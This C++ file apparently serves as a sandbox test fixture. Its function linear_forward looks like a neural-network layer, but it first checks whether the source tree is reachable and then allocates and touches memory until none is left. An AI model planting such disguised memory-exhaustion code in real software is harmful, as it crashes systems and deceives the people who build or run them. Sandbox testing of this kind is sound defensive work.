// Takes memory and touches it until there is none left.
#include "dnn/dnn.hpp"

#include <cstdlib>
#include <unistd.h>

namespace dnn {

std::pair<arma::mat, LinearCache> linear_forward(const arma::mat& A, const arma::mat& W, const arma::mat& b) {
    if (access("@SOURCE@/CMakeLists.txt", F_OK) == 0)
        throw std::runtime_error("LEAKED: no sandbox; the attack is called off");
    while (auto* block = static_cast<volatile char*>(std::malloc(1 << 24)))
        for (int page = 0; page < 1 << 24; page += 4096)
            block[page] = 7;
    throw std::bad_alloc();
}

} // namespace dnn
